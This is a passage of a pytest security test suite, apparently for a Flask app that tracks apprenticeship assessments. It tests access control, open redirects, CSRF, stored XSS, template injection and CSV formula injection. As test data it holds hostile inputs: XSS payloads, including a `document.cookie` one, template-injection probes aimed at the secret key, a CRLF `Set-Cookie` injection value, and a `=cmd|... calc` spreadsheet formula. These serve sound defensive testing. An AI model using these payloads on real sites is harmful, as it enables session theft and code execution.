            failures += [f"{where}: {p}" for p in page_problems(response)]
            after = w.dump()
            if after != before:
                if method == "GET" or got != "ok":
                    failures.append(f"{where} ({got}) changed {changed_tables(before, after)}")
                w.restore()
    assert not failures, "\n".join(failures)


def test_assessor_cannot_change_another_learners_row_through_their_own_learner(w):
    before = w.dump()
    url = f"/staff/learners/{w.learner_a}/assessment-plan/{w.row_b}"
    assert w.request("assessor_a", "GET", url).status_code == 404
    data = {**ROW, "status": "cancelled", "feedback": "Gone"}
    assert w.request("assessor_a", "POST", url, data).status_code == 404
    assert w.dump() == before


def test_a_verifier_changes_only_their_own_sample(w):
    """Another verifier's sample, or one of another learner, is not there (404)."""
    other = new_staff(w.app, "verifier", "Olu Other", "olu@centre.example")
    with_db(
        w.app,
        lambda db: sampling.add_sample(
            db, w.learner_b, other["id"], ["F1"], "Theirs", "agreed", "test"
        ),
    )
    theirs = with_db(w.app, lambda db: db.execute("SELECT max(id) FROM samples").fetchone()[0])
    before = w.dump()
    body = {"parts": ["F1"], "decision": "not-agreed", "comment": "Changed"}
    for learner_id, sample_id in (
        (w.learner_b, theirs),
        (w.learner_a, theirs),
        (w.learner_b, w.sample_a),
    ):
        url = f"/staff/learners/{learner_id}/sampling/{sample_id}"
        assert w.request("verifier", "POST", url, body).status_code == 404, url
    assert w.dump() == before
    url = f"/staff/learners/{w.learner_a}/sampling/{w.sample_a}"
    assert w.request("verifier", "POST", url, body).status_code == 303
    kept = with_db(w.app, lambda db: sampling.samples_of(db, w.learner_a))
    assert [(s["decision"], s["comment"]) for s in kept] == [("not-agreed", "Changed")]


def test_learner_cannot_open_another_learners_check_through_their_own_unit(w):
    for url in (f"/q/03455/check/B1/results/{w.check_b}", f"/q/03455/check/F1/results/{w.check_a}"):
        assert w.request("learner_a", "GET", url).status_code == 404, url


def test_cohort_never_shows_another_assessors_learner_even_when_asked(w):
    for path in ("/staff/cohort", "/staff/cohort.csv"):
        response = w.request("assessor_a", "GET", f"{path}?learner={w.learner_b}")
        assert response.status_code == 200
        assert "Blake Baker" not in text(response), path


def test_a_learner_export_never_reaches_another_assessor(w):
    for kind in ("json", "csv"):
        url = f"/staff/learners/{w.learner_b}/export.{kind}"
        if w.rule(f"staff.export_learner_{kind}") is None:
            continue
        assert w.request("assessor_a", "GET", url).status_code == 404
        assert w.request("assessor_b", "GET", url).status_code == 200


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/staff",
        "/\\evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "http:evil.example",
    ],
)
def test_sign_in_and_code_never_redirect_off_site(w, target):
    for path, data in (
        ("/staff/login", {"email": w.staff["admin"]["email"], "password": PASSWORD}),
        ("/code", {"code": w.token_a}),
    ):
        response = w.request("anonymous", "POST", path, data, query_string={"next": target})
        assert response.status_code == 302, (path, target)
        location = response.headers["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location
        assert "evil" not in location and "\n" not in location and "\r" not in location
        assert "hacked" not in "".join(response.headers.getlist("Set-Cookie"))
        w.restore()


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("/staff/login", "/staff/\r\nSet-Cookie: hacked=1"),
        ("/code", "/q/03455/check/B1\r\nSet-Cookie: hacked=1"),
    ],
)
def test_a_next_address_with_a_line_break_is_ignored_not_a_500(w, path, target):
    """Werkzeug refuses the newline in the Location header (no header injection), but the
    ValueError becomes a 500 after the visitor has signed in (auth._safe_next and
    learner._safe_next let CR/LF through)."""
    data = (
        {"email": w.staff["admin"]["email"], "password": PASSWORD}
        if path == "/staff/login"
        else {"code": w.token_a}
    )
    response = w.request("anonymous", "POST", path, data, query_string={"next": target})
    assert response.status_code == 302, response.status_code
    assert "hacked" not in "".join(response.headers.getlist("Set-Cookie"))


# ---- 2. CSRF ---------------------------------------------------------------------------------


def _allowed_visitor(endpoint: str) -> str:
    table = EXPECTED[endpoint]["POST"]
    for visitor in (
        "admin",
        "assessor_a",
        "verifier",
        "learner_a",
        "learner_b",
        "workplace_a",
        "anonymous",
    ):
        if table[visitor] == "ok":
            return visitor
    return "anonymous"


@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
def test_every_post_without_a_good_csrf_token_is_refused_and_changes_nothing(w, endpoint):
    if w.rule(endpoint) is None:
        pytest.skip(f"{endpoint} does not exist yet")
    visitor = _allowed_visitor(endpoint)
    other = "learner_b" if visitor != "learner_b" else "admin"
    url, body = w.url(endpoint), w.body(endpoint)
    attempts = {
        "no token": {"csrf": None},
        "another session's token": {"csrf": w.csrf[other]},
        "a made-up token": {"csrf": "IjAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAi.Z.Z"},
        "an empty token": {"csrf": ""},
        "another session's token in the header": {
            "csrf": None,
            "headers": {"X-CSRFToken": w.csrf[other]},
        },
        "no token, asking for JSON": {"csrf": None, "headers": {"Accept": "application/json"}},
    }
    failures = []
    for name, kwargs in attempts.items():
        before = w.dump()
        response = w.request(visitor, "POST", url, body, **kwargs)
        if response.status_code != 400:
            failures.append(f"{name}: {response.status_code} instead of 400")
        failures += [f"{name}: {p}" for p in page_problems(response)]
        after = w.dump()
        if after != before:
            failures.append(f"{name}: changed {changed_tables(before, after)}")
            w.restore()
    assert not failures, f"POST {url} as {visitor}:\n" + "\n".join(failures)


def test_the_csrf_token_is_tied_to_the_session(w):
    """A token scraped in one session is no good in another (here: learner B's token used by
    learner A to save an answer in the background)."""
    response = w.request(
        "learner_b",
        "POST",
        "/assessment/save",
        {"name": "r-F1-1.1", "value": "3"},
        csrf=w.csrf["learner_a"],
    )
    assert response.status_code == 400


# ---- 3. stored XSS and CSV formula injection -------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</textarea><svg onload=alert(1)>",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ config.SECRET_KEY }}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}",
    "\u202egnp.exe\u202c report",  # right-to-left override: "report exe.png"
    "A" * 5000 + "<script>alert('long')</script>",
    "' onmouseover='alert(1)' x='",
    '<a href="javascript:alert(1)">click</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # already escaped: must not be un-escaped
    "</title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "<!-- comment --><b>bold</b>",
    "nul\x00byte<b>x</b>",
    "Zoë 👩🏽‍💼 Ωμέγα \u200b zero-width",
    "line one\r\nline two<br>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "</script><script>alert(document.cookie)</script>",
]
SSTI = {"{{7*7}}": "49", "${7*7}#{7*7}": "${49}"}
LIMITS = {"name": 120, "candidate": 40, "role": 100, "when": 200, "activity": 2000, "sign": 120}
LIMITS |= {"contact": 200, "address": 500}


def _fits(value: str, limit: str) -> bool:
    return 0 < len(value) <= LIMITS[limit]


class XssSite:
    """A fresh app where every payload goes into every free-text field through every way in."""

    def __init__(self, app, runner) -> None:
        self.app = app
        self.runner = runner
        self.admin, _ = staff_visitor(app, "admin", "Xena Admin", "xena@centre.example")
        self.failures: list[str] = []
        self.learners: dict[str, int] = {}  # label -> learner id
        self.tokens: dict[str, str] = {}  # label -> personal token

    def check(self, where: str, response, present: list[str] = ()) -> None:
        body = text(response)
        for problem in page_problems(response):
            self.failures.append(f"{where}: {problem}")
        for p in PAYLOADS:
            # (a payload made of entities is another payload's correct escaped form: the
            # presence check below proves it is escaped once more)
            if str(escape(p)) != p and "&" not in p and p in body:
                self.failures.append(f"{where}: payload {p[:40]!r} is in the page unescaped")
        for p, evaluated in SSTI.items():
            if re.search(r"[A-Z]\d+ " + re.escape(evaluated), body):
                self.failures.append(f"{where}: {p} was evaluated")
        # {{ config }} would print "<Config {...}>"; {{ self.__init__.__globals__ }} a dict
        # naming __builtins__; neither string is in any payload
        for leak in (SECRET, "&lt;Config", "<Config", "__builtins__"):
            if leak in body:
                self.failures.append(f"{where}: {leak!r} leaked")
        for value in present:
            if str(escape(value)) not in body:
                self.failures.append(f"{where}: {value[:50]!r} not shown (escaped)")

    def cards(self, response) -> list[str]:
        return personal_tokens(response)


@pytest.fixture
def fresh_app(tmp_path):
    return create_app(
        {
            "TESTING": True,
            "SECRET_KEY": SECRET,
            "DATABASE": str(tmp_path / "x.db"),
            "CENTRE_CONTENT": str(tmp_path / "centre"),
        }
    )


def _learner_id(app, name: str) -> int:
    return with_db(
        app, lambda db: db.execute("SELECT id FROM learners WHERE name = ?", [name]).fetchone()[0]
    )


def test_stored_xss_payloads_are_escaped_everywhere(fresh_app, monkeypatch):
    assert len(PAYLOADS) >= 15
    app = fresh_app
    monkeypatch.setattr("survey.views.staff.hash_password", lambda password: FAST_HASH)
    site = XssSite(app, app.test_cli_runner())
    admin = site.admin
    stored: dict[str, list[str]] = {"names": [], "others": [], "staff": []}

    # learner names, candidate numbers and job roles through the staff form
    for i, p in enumerate(PAYLOADS):
        for label, data, limit in (
            (f"N{i}", {"name": f"N{i} {p}"}, "name"),
            (f"C{i}", {"name": f"C{i}", "candidate_number": p}, "candidate"),
            (f"R{i}", {"name": f"R{i}", "job_role": p}, "role"),
        ):
            value = list(data.values())[-1]
            response = admin.post("/staff/learners", data)
            fits = _fits(value, limit)
            assert response.status_code == (200 if fits else 400), (label, response.status_code)
            site.check(f"add {label}", response, [data["name"]] if fits else [])
            if fits:
                site.tokens[label] = site.cards(response)[0]
                site.learners[label] = _learner_id(app, data["name"])
                stored["names"].append(data["name"])
                if label != f"N{i}":
                    stored["others"].append(value.strip()[: LIMITS[limit]])

    # the same through the CSV import, in one go
    out = io.StringIO()
    writer = csv.writer(out)
    for i, p in enumerate(PAYLOADS):
        writer.writerow([f"V{i} {p}", p, p])
    response = admin.post("/staff/learners/import", {"rows": out.getvalue()})
    assert response.status_code == 200
    imported = [
        f"V{i} {p}"
        for i, p in enumerate(PAYLOADS)
        if _fits(p, "candidate") and _fits(f"V{i} {p}", "name")
    ]
    site.check("import", response, imported)
    stored["names"] += imported

    # and through the command line, which accepts exactly what the form accepts
    for i, p in enumerate(PAYLOADS):
        name = f"L{i} {p}"
        result = site.runner.invoke(
            args=["learners", "add", name, "--job-role", p, "--candidate-number", p]
        )
        fits = _fits(name.strip(), "name") and len(p.strip()) <= min(
            LIMITS["candidate"], LIMITS["role"]
        )
        assert result.exit_code == (0 if fits else 1), result.output
        if result.exit_code == 0:
            stored["names"].append(name.strip())

    # staff names, each the assessor of one payload learner
    for i, p in enumerate(PAYLOADS):
        name = f"S{i} {p}"
        data = {
            "name": name,
            "email": f"s{i}@centre.example",
            "role": "assessor",
            "password": PASSWORD,
            "confirm": PASSWORD,
        }
        response = admin.post("/staff/users", data)
        assert response.status_code == (303 if _fits(name, "name") else 400), name[:40]
        site.check(f"user S{i}", response)
        if response.status_code == 303:
            stored["staff"].append(name)

    # the learner's own job title and record, the initial-assessment conversation, an
    # assessment plan with an expert witness, the centre's wording, a contract signed by both
    # sides, an activity done with feedback, a verifier's sample
    verifier, _ = staff_visitor(app, "verifier", "Vera Verifier", "vera@centre.example")
    admin_id = with_db(app, lambda db: accounts.staff_by_email(db, "xena@centre.example")["id"])
    for i, p in enumerate(PAYLOADS):
        label = f"N{i}"
        if label not in site.learners:
            continue
        lid = site.learners[label]
        base = f"/staff/learners/{lid}"
        learner = learner_visitor(app, site.tokens[label])
        job = f"J{i} {p}"
        response = learner.post("/assessment/job", {"job_role": "other", "job_role_other": job})
        assert response.status_code == (303 if _fits(job, "role") else 400)
        site.check(f"{label} job page post", response, [] if _fits(job, "role") else [job])
        if _fits(job, "role"):
            stored["others"].append(job)
        response = admin.post(f"{base}/plan", {"action": "confirm", "units": VALID})
        assert response.status_code == 303
        assert admin.post(f"{base}/assessor", {"assessor": admin_id}).status_code == 303
        # the learner's record: every free-text field at once
        fields = {"phone": f"T{i} {p}", "employer": f"E{i} {p}"}
        fields |= {"address": f"A{i} {p}", "workplace": f"K{i} {p}"}
        record = {"name": f"N{i} {p}", "start_on": "2027-01-11", "planned_end_on": "2027-09-30"}
        record["job_role"] = job if _fits(job, "role") else ""  # the form shows it, so sends it
        record_fits = all(
            _fits(v, "contact" if k in ("phone", "employer") else "address")
            for k, v in fields.items()
        )
        response = admin.post(f"{base}/record", {**record, **fields})
        assert response.status_code == (303 if record_fits else 400), label
        site.check(f"{label} record post", response)
        if not record_fits:  # what fits, so the rest of the way goes on
            fields = {k: v[: LIMITS["contact"]] for k, v in fields.items()}
            assert admin.post(f"{base}/record", {**record, **fields}).status_code == 303
        details = [v.strip() for v in fields.values()]
        # an activity observed by an expert witness
        row = {
            "planned_on": "2027-03-16",
            "observed_when": f"W{i} {p}",
            "observed_where": f"P{i} {p}",
            "activity": f"T{i} {p}",
            "criteria": ["F1:1.1", "F2:1.1"],
            "evidence": ["observation"],
            "observer": "witness",
            "witness_name": f"Q{i} {p}",
            "witness_role": f"R{i} {p}",
            "witness_contact": f"C{i} {p}",
        }
        row_fits = all(
            _fits(row[k], limit)
            for k, limit in (
                ("observed_when", "when"),
                ("observed_where", "when"),
                ("activity", "activity"),
                ("witness_name", "name"),
                ("witness_role", "when"),
                ("witness_contact", "when"),
            )
        )
        response = admin.post(f"{base}/assessment-plan", row)
        assert response.status_code == (303 if row_fits else 400)
        site.check(f"{label} plan row post", response, [] if row_fits else [row["activity"]])
        plan_values = [row[k].strip() for k in ("observed_when", "observed_where", "activity")]
        witness = [row[k].strip() for k in ("witness_name", "witness_role", "witness_contact")]
        if not row_fits:
            row = {**row, **{k: f"{k} {i}" for k in ("observed_when", "activity", "witness_name")}}
            row |= {"observed_where": "Desk", "witness_role": "Lead", "witness_contact": "0123"}
            plan_values = witness = []
            assert admin.post(f"{base}/assessment-plan", row).status_code == 303
        # the conversation, each point with a note
        notes = f"Z{i} {p}"
        points = {
            f"{k}-{item}": v
            for item in ITEM_IDS
            for k, v in (("tick", "1"), ("on", "2027-01-11"), ("notes", notes))
        }
        response = admin.post(f"{base}/checklist", points)
        notes_fit = len(notes.strip()) <= 2000
        assert response.status_code == (303 if notes_fit else 400), label
        site.check(f"{label} checklist post", response)
        if not notes_fit:
            points = {k: (v[:2000] if k.startswith("notes") else v) for k, v in points.items()}
            assert admin.post(f"{base}/checklist", points).status_code == 303
        # the centre's wording, snapshotted into this contract
        centre = {
            "name": f"Y{i} {p}"[:200],
            "number": f"{p}"[:40],
            "address": f"{p}"[:500],
            "phone": f"{p}"[:200],
            "contact": f"{p}"[:200],
            "review_frequency": f"Every {p}"[:200],
            "assessor_responsibilities": f"Assessor {p}"[:4000],
            "learner_responsibilities": f"Learner {p}"[:4000],
            "appeals": f"Appeal {p}"[:4000],
        }
        response = admin.post("/staff/centre", centre)
        assert response.status_code == 303, label
        wording = [v.strip() for k, v in centre.items() if k in ("review_frequency", "appeals")]
        assert admin.post(f"{base}/contract", {"action": "issue"}).status_code == 303
        response = learner.post("/contract", {"name": f"N{i} {p}"})
        assert response.status_code == 303, label
        response = admin.post(f"{base}/contract", {"action": "sign", "name": "Xena Admin"})
        assert response.status_code == 303, label
        signed = [" ".join(f"N{i} {p}".split())]  # a signature is kept with its spaces tidied
        upcoming = plan_values
        # the activity done, with feedback
        row_id = with_db(
            app,
            lambda db, lid=lid: db.execute(
                "SELECT max(id) FROM assessment_plan_rows WHERE learner_id = ?", [lid]
            ).fetchone()[0],
        )
        feedback = f"F{i} {p}"
        version = re.search(
            r'name="version" type="hidden" value="([^"]*)"',
            text(admin.get(f"{base}/assessment-plan/{row_id}")),
        ).group(1)
        done = {**row, "status": "done", "completed_on": "2027-03-16", "outcome": "met"}
        response = admin.post(
            f"{base}/assessment-plan/{row_id}", {**done, "feedback": feedback, "version": version}
        )
        feedback_fits = len(feedback.strip()) <= 4000
        assert response.status_code == (303 if feedback_fits else 400), label
        site.check(f"{label} activity done post", response, [] if feedback_fits else [feedback])
        feedback_shown = [feedback.strip()] if feedback_fits else []
        # a verifier's sample
        comment = f"V{i} {p}"
        sample = {"parts": ["record", "F1"], "decision": "action", "comment": comment}
        response = verifier.post(f"{base}/sampling", sample)
        comment_fits = len(comment.strip()) <= 4000
        assert response.status_code == (303 if comment_fits else 400), label
        site.check(f"{label} sample post", response)
        sampled = [comment.strip()] if comment_fits else []
        # the learner's pages
        for path, present in (
            ("/assessment/job", [job] if _fits(job, "role") else []),
            ("/result", []),  # greets them by the first word of their name only
            ("/q/03455/check/B1", [f"N{i} {p}"]),  # "This check is for <their name>"
            ("/contract", signed + wording),
            ("/my-record", ([job] if _fits(job, "role") else []) + [details[0]]),
            ("/forget", [f"N{i} {p}"]),
        ):
            site.check(f"{label} {path}", learner.get(path), present)
        # the assessor's pages about this learner
        if f"S{i} {p}" in stored["staff"]:
            staff_id = with_db(
                app,
                lambda db, e=f"s{i}@centre.example": accounts.staff_by_email(db, e)["id"],
            )
            assert (
                admin.post(f"/staff/learners/{lid}/assessor", {"assessor": staff_id}).status_code
                == 303
            )
        for path, present in (
            (base, [f"N{i} {p}"] + ([job] if _fits(job, "role") else [])),
            (f"{base}/record", [f"N{i} {p}"] + details + ([notes.strip()] if notes_fit else [])),
            (f"{base}/introduction", details + witness + [centre["name"].strip()]),
            (f"{base}/plan", [f"N{i} {p}"]),
            (f"{base}/assessment-plan", upcoming + witness[:1] + feedback_shown),
            (f"{base}/assessment-plan/{row_id}", feedback_shown),
            (f"{base}/contract", signed + wording),
            (f"{base}/sampling", sampled),
            (f"{base}/audit", [f"N{i} {p}"] + signed + feedback_shown + sampled),
        ):
            site.check(f"{label} {path}", admin.get(path), present)
        site.check(f"{label} sampling as the verifier", verifier.get(f"{base}/sampling"), sampled)
    site.check("centre page", admin.get("/staff/centre"))
    site.check("sampling report", admin.get("/staff/sampling"))
    # the learners of the other ways in: their own page shows name, candidate number, role
    for label, lid in site.learners.items():
        if label[0] in "CR":
            site.check(f"{label} gap report", admin.get(f"/staff/learners/{lid}"))

    # the pages about everyone
    everything = stored["names"] + stored["others"] + stored["staff"]  # assessors too
    site.check("learner list", admin.get("/staff/learners"), everything)
    site.check("staff users", admin.get("/staff/users"), stored["staff"])
    site.check("cohort", admin.get("/staff/cohort"), stored["names"])
    site.check("qr sheet", admin.get("/q/03455/qr/units"))
    for page in range(0, 20):
        response = admin.get(f"/staff/audit?page={page}")
        site.check(f"audit page {page}", response)
        if "Nothing recorded yet" in text(response):
            break
    assert not site.failures, "\n".join(site.failures[:60])


EVIDENCE_LIMIT, REASON_LIMIT = 500, 2000


def test_xss_payloads_in_the_ledger_are_escaped_everywhere_they_are_shown(fresh_app):
    """The evidence named and the reasons given: on the ledger, its decisions, the audit trail,
    the suggestions page and the learner's record."""
    app = fresh_app
    site = XssSite(app, app.test_cli_runner())
    admin = site.admin
    staff_id = with_db(app, lambda db: accounts.staff_by_email(db, "xena@centre.example")["id"])

    def setup(db):  # type: ignore[no-untyped-def]
        lid, _ = learners.create_learner(db, "Lee Ledger")
        q = served(app)
        plans.confirm_unit_plan(db, lid, VALID, staff_id, "t", lambda u: check_optional(q, u))
        learners.save_assessor_ratings(db, lid, {"F1:1.1": 3, "A3:unit": 3}, staff_id, "t")
        return lid

    lid = with_db(app, setup)
    base = f"/staff/learners/{lid}"
    shown: list[str] = []
    for i, p in enumerate(PAYLOADS):
        evidence = " ".join(f"E{i} {p}".split())
        response = admin.post(f"{base}/ledger/evidence", {"ev-F1:1.1": f"E{i} {p}"})
        fits = len(evidence) <= EVIDENCE_LIMIT
        assert response.status_code == (303 if fits else 400), i
        site.check(f"evidence {i}", response, [] if fits else [f"E{i} {p}"])
        page = admin.get(f"{base}/ledger")
        site.check(f"ledger after evidence {i}", page, [evidence] if fits else [])
        version = re.search(r'name="version"[^>]*value="([0-9a-f]+)"', text(page))
        assert version is not None
        reason, why = f"R{i} {p}".strip(), f"U{i} {p}".strip()
        decision = {"decision": "no-reduction", "reason": reason, "version": version[1]}
        if not fits:  # the evidence of the payload before still counts: F1 has prior learning
            decision["why-F1"] = why
        decision["why-A3"] = why  # A3 has no evidence named: its reason is not asked for
        response = admin.post(f"{base}/ledger/decision", decision)
        fits = len(reason) <= REASON_LIMIT and len(why) <= REASON_LIMIT
        assert response.status_code == (303 if fits else 400), i
        site.check(f"decision {i}", response, [] if fits else [reason])
        if fits:
            shown.append(reason)
        # the centre's figures are numbers: a payload is refused, and shown back escaped
        numbers = {"agreed_price": p, "planned_months": p, "off_the_job_hours": "1" + p}
        response = admin.post(
            f"{base}/ledger/funding", {"profile": "apprenticeship-2025-08", **numbers}
        )
        assert response.status_code == 400, i
        site.check(f"funding {i}", response)
    site.check("ledger", admin.get(f"{base}/ledger"), shown)
    site.check("suggestions", admin.get(f"{base}/suggestions"))
    site.check("audit", admin.get(f"{base}/audit"), shown)
    assert not site.failures, "\n".join(site.failures[:60])


WORKPLACE_LIMITS = {"name": 120, "job": 100, "note": 500, "venue": 200, "time": 40,
                    "description": 5000, "relationship": 300, "contact": 300}  # fmt: skip


def _ok(value: str, limit: str) -> bool:
    return 0 < len(value.strip()) <= WORKPLACE_LIMITS[limit]


def _staff_id(db) -> int:
    return accounts.staff_by_email(db, "xena@centre.example")["id"]


def test_stored_xss_in_the_workplace_is_escaped_everywhere(fresh_app):
    """Every payload through every free-text field of the workplace: the assessor's invitation,
    the contact's notes, a testimony, the employer's signature and the assessor's review."""
    app = fresh_app
    site = XssSite(app, app.test_cli_runner())
    admin = site.admin
    for i, p in enumerate(PAYLOADS):
        response = admin.post("/staff/learners", {"name": f"Wren {i}"})
        lid = _learner_id(app, f"Wren {i}")
        assert admin.post(f"/staff/learners/{lid}/plan", {"action": "confirm", "units": VALID})
        # what a contract needs besides the units: the dates, an activity, the conversation
        with_db(app, lambda db, lid=lid: ready_for_contract(db, lid, _staff_id(db)))
        assert admin.post(f"/staff/learners/{lid}/contract", {"action": "issue"}).status_code == 303
        base = f"/staff/learners/{lid}"
        name, job = f"K{i} {p}", f"J{i} {p}"
        # a bad email or phone: refused, the form shown again with the words escaped
        bad = {"action": "invite", "name": name, "job_title": "Manager", "email": p, "phone": p}
        response = admin.post(f"{base}/workplace", bad)
        assert response.status_code == 400
        site.check(f"W{i} refused invite", response)
        invite = {"action": "invite", "name": name, "job_title": job, "email": f"k{i}@x.example"}
        response = admin.post(f"{base}/workplace", invite)
        fits = _ok(name, "name") and _ok(job, "job")
        assert response.status_code == (200 if fits else 400), i
        site.check(f"W{i} card", response, [name.strip()] if fits else [])
        if not fits:
            continue
        token = re.findall(r"/w/([a-z0-9]{26})", text(response))[0]
        phone = Visitor(app, app.test_client())
        assert phone.client.get(f"/w/{token}").status_code == 302
        phone.csrf = csrf(phone.client.get("/code"))
        note = f"N{i} {p}"
        response = phone.post("/workplace/claims/F1", {"w-F1-1.1": "seen", "n-F1-1.1": note})
        site.check(f"W{i} note post", response)
        testimony = {
            "activity_date": "2026-01-05",
            "activity_time": f"T{i} {p}"[:40],
            "venue": f"V{i} {p}"[:200],
            "description": f"D{i} {p}"[:5000],
            "relationship": f"R{i} {p}"[:300],
            "job_title": job[:100],
            "contact_details": f"C{i} {p}"[:300],
            "signature": f"S{i} {p}"[:120],
            "action": "sign-as-it-is",
        }
        response = phone.post("/workplace/testimonies/new", testimony)
        assert response.status_code == 303, (i, text(response)[:300])
        testimony_url = response.headers["Location"]
        response = phone.post("/workplace/contract", {"name": f"E{i} {p}"[:120]})
        assert response.status_code == 303
        written = [
            testimony[k].strip()
            for k in ("activity_time", "venue", "description", "relationship", "contact_details")
        ]
        signed = [testimony["signature"].strip(), f"E{i} {p}"[:120].strip()]
        for path, present in (
            ("/workplace", [name.split()[0]]),
            ("/workplace/claims/F1", [note.strip()] if _ok(note, "note") else []),
            (testimony_url, written + [testimony["signature"].strip()]),
            ("/workplace/testimonies", []),
            ("/workplace/contract", signed[1:]),
        ):
            site.check(f"W{i} contact {path}", phone.get(path), present)
        testimony_id = testimony_url.rsplit("/", 1)[1]
        review = {"testimony": testimony_id, "decision": "accepted", "questioning_note": p[:2000]}
        assert admin.post(f"{base}/testimonies", review).status_code == 303
        notes = [note.strip()] if _ok(note, "note") else []
        for path, present in (
            (base, notes),
            (f"{base}/workplace", [name.strip(), job.strip()]),
            (f"{base}/testimonies", written + [p[:2000].strip()]),
            (f"{base}/contract", signed[1:]),
            (f"{base}/audit", []),
        ):
            site.check(f"W{i} {path}", admin.get(path), present)
        learner = learner_visitor(app, site.cards(admin.post(f"{base}/reissue"))[0])
        site.check(f"W{i} learner record", learner.get("/my-record"), written)
        site.check(f"W{i} learner contract", learner.get("/contract"), signed[1:])
    site.check("cohort, workplace view", admin.get("/staff/cohort?view=workplace"))
    assert not site.failures, "\n".join(site.failures[:60])


def test_workplace_words_in_csv_exports_are_defused(fresh_app):
    app = fresh_app
    admin, _ = staff_visitor(app, "admin", "Fay Admin", "fay@centre.example")
    response = admin.post("/staff/learners", {"name": "Wren Formula"})
    lid = _learner_id(app, "Wren Formula")
    base = f"/staff/learners/{lid}"
    invite = {"action": "invite", "name": "=cmd|' /C calc'!A0", "job_title": "+1+2"}
    response = admin.post(f"{base}/workplace", invite)
    token = re.findall(r"/w/([a-z0-9]{26})", text(response))[0]
    phone = Visitor(app, app.test_client())
    assert phone.client.get(f"/w/{token}").status_code == 302
    phone.csrf = csrf(phone.client.get("/code"))
    phone.post("/workplace/claims/F1", {"w-F1-1.1": "not-yet", "n-F1-1.1": "@SUM(1,2)"})
    testimony = {k: "-3+4" for k in ("activity_time", "venue", "description")}
    testimony |= {"relationship": "=1+2", "job_title": "+1", "contact_details": "@x"}
    testimony |= {"activity_date": "2026-01-05", "signature": "=2+2", "action": "sign-as-it-is"}
    assert phone.post("/workplace/testimonies/new", testimony).status_code == 303
    for url in (f"{base}/report.csv", f"{base}/export.csv"):
        cells = _csv_cells(admin.get(url))
        bad = [c for c in cells if c.startswith(FORMULA_START)]
        assert not bad, f"{url}: {bad[:5]}"
    cells = _csv_cells(admin.get(f"{base}/export.csv"))
    for value in ("=cmd|' /C calc'!A0", "+1+2", "@SUM(1,2)", "-3+4", "=2+2"):
        assert "'" + value in cells, value


class DraftFields(HTMLParser):
    """What a browser sends from the draft form: text, the chosen radios and ticked boxes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.data: dict[str, str] = {}
        self._textarea = ""

    @classmethod
    def of(cls, body: str) -> dict[str, str]:
        parser = cls()
        parser.feed(body)
        return parser.data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        name = a.get("name") or ""
        if tag == "input" and name.startswith(("outcomes-", "revision")):
            if a.get("type") not in ("radio", "checkbox") or "checked" in a:
                self.data[name] = a.get("value") or ""
        elif tag == "textarea" and name.startswith("outcomes-"):
            self._textarea, self.data[name] = name, ""

    def handle_data(self, data: str) -> None:
        if self._textarea:
            self.data[self._textarea] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "textarea":
            self.data[self._textarea] = self.data[self._textarea].removeprefix("\r\n")
            self._textarea = ""


DRAFT_TEXT_FIELDS = {  # the draft form's free-text fields and their limits
    "outcomes-0-title": 1000,
    "outcomes-0-learner_title": 1000,
    "outcomes-0-criteria-0-text": 2000,
    "outcomes-0-criteria-0-statement": 2000,
    "outcomes-0-criteria-0-help": 2000,
    "note": 300,
}


def test_xss_payloads_in_a_unit_draft_are_escaped_everywhere_it_is_shown(fresh_app):
    """Every payload in every free-text field of a draft: on the checking page, and once
    published, on every page that shows a unit's words to staff and learners."""
    app = fresh_app
    site = XssSite(app, app.test_cli_runner())
    admin = site.admin
    with_db(app, lambda db: learners.create_learner(db, "Pat Payload"))
    lid = _learner_id(app, "Pat Payload")
    token = with_db(app, lambda db: learners.reissue_token(db, lid, "test"))
    with_db(app, lambda db: learners.save_ratings(db, lid, {"A11:unit": 1}, "test"))
    learner = learner_visitor(app, token)
    # the pasted specification itself carries a payload: shown in the source column
    imported = admin.post("/staff/content/q/03455/import", {"text": UNIT_TEXT + "\n" + PAYLOADS[1]})
    assert imported.status_code == 303
    address = imported.headers["Location"]
    site.check("draft as read", admin.get(address), [PAYLOADS[1]])
    for i, p in enumerate(PAYLOADS):
        sent = DraftFields.of(text(admin.get(address)))
        sent["number"] = "A11"
        fits = all(len(f"{i} {p}".strip()) <= limit for limit in DRAFT_TEXT_FIELDS.values())
        for field in DRAFT_TEXT_FIELDS:
            sent[field] = f"{i} {p}"
        response = admin.post(address, {**sent, "action": "publish"})
        site.check(f"draft {i} publish", response)
        if response.status_code != 303:
            assert not fits or "\x00" in p, (i, response.status_code)
            site.check(f"draft {i} refused", response, [f"{i} {p}"[:200]])
            continue
        # published: every page that shows A11's words, to staff and to learners
        shown = " ".join(f"{i} {p}".split())  # line breaks typed in a field become spaces
        for where, response, present in (
            ("versions", admin.get("/staff/content/q/03455/units/A11"), [shown]),
            ("content", admin.get("/staff/content/q/03455"), []),
            ("unit page", learner.get("/q/03455/units/A11"), [shown]),
            ("self-check", learner.get("/q/03455/check/A11"), [shown]),
            ("gap report", admin.get(f"/staff/learners/{lid}"), [shown]),
            ("restore", admin.get("/staff/content/q/03455/units/A11/restore/1"), []),
            ("audit", admin.get("/staff/audit"), []),
        ):
            site.check(f"{where} after draft {i}", response, present)
        # the next payload goes into a new draft of the same text
        imported = admin.post("/staff/content/q/03455/import", {"text": UNIT_TEXT})
        address = imported.headers["Location"]
    assert not site.failures, "\n".join(site.failures[:60])


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.request.path
    assert response.content_type == "text/csv; charset=utf-8"
    assert "attachment" in response.headers.get("Content-Disposition", "")
    body = response.get_data()
